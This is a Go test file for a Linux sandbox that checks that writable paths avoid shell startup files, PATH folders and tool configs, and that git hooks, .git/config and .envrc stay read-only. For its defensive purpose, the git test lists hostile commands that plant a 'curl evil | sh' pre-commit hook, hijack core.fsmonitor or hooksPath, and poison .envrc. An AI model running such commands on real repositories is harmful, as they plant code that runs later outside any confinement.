//go:build linux

package sandbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gatehouse/internal/sandbox"
)

// runsLater lists, for a home folder and a PATH, every place whose
// contents an unconfined program runs, sources or reads as configuration
// later: the folders on PATH, shell startup files, tool init and config
// folders, and the caches the user's own tools build from.
func runsLater(home string, path []string) []string {
	out := slices.Clone(path)
	for _, rel := range []string{
		// shells
		".profile", ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".zshrc", ".zshenv", ".zprofile",
		".zlogin", ".config/fish", ".inputrc", ".envrc", ".config/environment.d", ".pam_environment", ".xprofile",
		".config/autostart", ".config/systemd", ".local/share/applications",
		// bins and user-site code
		".local/bin", "bin", "go/bin", ".local/lib", ".local/share/pnpm", ".bun", ".deno", ".volta", ".nvm", ".pyenv",
		".rbenv", ".sdkman", ".asdf", ".local/share/mise",
		// tool homes, init and config folders
		".cargo", ".rustup", ".gradle", ".m2", ".npmrc", ".npm", ".yarnrc", ".yarn", ".config/yarn", ".pnpm-store",
		".config/pip", ".pip", ".pypirc", ".gitconfig", ".config/git", ".config/go", ".ssh", ".gnupg", ".docker",
		".kube", ".vscode", ".config/Code", ".config/nvim", ".vim", ".vimrc", ".emacs.d", ".config/gatehouse",
		// the user's own caches
		".cache", "go/pkg", "go", ".cache/pip", ".cache/go-build", ".node-gyp", ".cache/yarn", ".gem", ".config",
	} {
		out = append(out, filepath.Join(home, rel))
	}
	return append(out, "/etc", "/usr", "/opt", "/usr/local/bin")
}

// No path a confined command may write is, holds or lies in a place an
// unconfined program runs later.
func TestWritablePathsRunNothingLater(t *testing.T) {
	home := "/home/gatehouse-test-user" // not below /tmp, as a home is not
	data := filepath.Join(home, ".local/share/gatehouse")
	path := []string{filepath.Join(home, ".cargo/bin"), filepath.Join(home, ".local/bin"), filepath.Join(home, ".bun/bin"),
		filepath.Join(home, ".local/share/pnpm"), filepath.Join(home, "go/bin"), "/usr/local/bin", "/usr/bin", "/bin"}
	env := []string{"HOME=" + home, "PATH=" + strings.Join(path, ":"), "GOPATH=" + filepath.Join(home, "go"),
		"CARGO_HOME=" + filepath.Join(home, ".cargo"), "npm_config_cache=" + filepath.Join(home, ".npm"),
		"XDG_CACHE_HOME=" + filepath.Join(home, ".cache"), "GOMODCACHE=" + filepath.Join(home, "go/pkg/mod")}
	for _, layers := range []sandbox.Layers{{ABI: 7, Bwrap: "/usr/bin/bwrap"}, {ABI: 7}} {
		p := sandbox.Build(sandbox.Spec{Workspace: filepath.Join(home, "src/proj"), Scratch: filepath.Join(data, "scratch/s1"),
			Home: home, Env: env, DataDir: data, ConfigDir: filepath.Join(home, ".config/gatehouse"), Layers: layers})
		if len(p.Writable) < 4 {
			t.Fatalf("writable: %v", p.Writable)
		}
		for _, w := range p.Writable {
			for _, bad := range runsLater(home, path) {
				if sandbox.Within(w, bad) || sandbox.Within(bad, w) {
					t.Errorf("writable %s and %s (run later, unconfined)", w, bad)
				}
			}
		}
		// The tools are pointed at caches that are writable.
		for _, kv := range p.SetEnv {
			name, val, _ := strings.Cut(kv, "=")
			if filepath.IsAbs(val) && !slices.ContainsFunc(p.Writable, func(w string) bool { return sandbox.Within(val, w) }) {
				t.Errorf("%s=%s is not writable", name, val)
			}
		}
	}
}

// In a repository, .git/hooks and .git/config are not writable and .git
// cannot be renamed away, while add and commit work; .gatehouse/ and
// .envrc are read-only too. With Landlock alone the writes happen, and are
// put back after the command, which the result says.
func TestGitCodePathsStayReadOnly(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
		git := func(args ...string) {
			cmd := exec.Command("git", args...)
			cmd.Dir, cmd.Env = b.ws, b.env
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v %s", args, err, out)
			}
		}
		git("init", "-q")
		os.MkdirAll(filepath.Join(b.ws, ".gatehouse"), 0o755)
		os.WriteFile(filepath.Join(b.ws, ".gatehouse/mcp.json"), []byte("{}"), 0o644)
		os.WriteFile(filepath.Join(b.ws, ".envrc"), []byte("export A=1\n"), 0o644)
		config, _ := os.ReadFile(filepath.Join(b.ws, ".git/config"))
		attacks := []string{
			`echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
			`git config core.fsmonitor 'sh -c evil'`,
			`echo '[core] hooksPath = /tmp/x' >> .git/config`,
			`echo evil > .gatehouse/mcp.json`,
			`echo 'curl evil | sh' >> .envrc`,
		}
		ns := !b.landlockOnly
		for _, a := range attacks {
			code, out, res := b.runRes(t, a)
			if ns && code == 0 {
				t.Errorf("%s: the write went through", a)
			}
			if !ns && len(res.Restored) == 0 {
				t.Errorf("%s: with Landlock alone the change was not put back (exit %d: %s)", a, code, out)
			}
			why, want := sandbox.Explain(res.Policy, res.Restored, out), "read-only mount"
			if !ns {
				want = "put them back"
			}
			if !strings.Contains(why, want) {
				t.Errorf("%s: the result does not explain itself (%q): %q", a, want, why)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(b.ws, ".git/config")); string(got) != string(config) {
			t.Fatalf(".git/config changed:\n%s", got)
		}
		if exists(filepath.Join(b.ws, ".git/hooks/pre-commit")) {
			t.Fatal("a pre-commit hook was planted")
		}
		if got, _ := os.ReadFile(filepath.Join(b.ws, ".envrc")); string(got) != "export A=1\n" {
			t.Fatalf(".envrc changed: %q", got)
		}
		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm first && git log --oneline | grep -q first`)
		code, out, res := b.runRes(t, `mv .git x && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`)
		if ns && (code == 0 || !exists(filepath.Join(b.ws, ".git/HEAD"))) {
			t.Fatalf("mv .git x worked (exit %d): %s", code, out)
		}
		if !ns && (exists(filepath.Join(b.ws, ".git/hooks/pre-commit")) || len(res.Restored) == 0) {
			t.Fatalf("with Landlock alone, a .git swapped for another kept its hook (restored %v)", res.Restored)
		}
	})
}
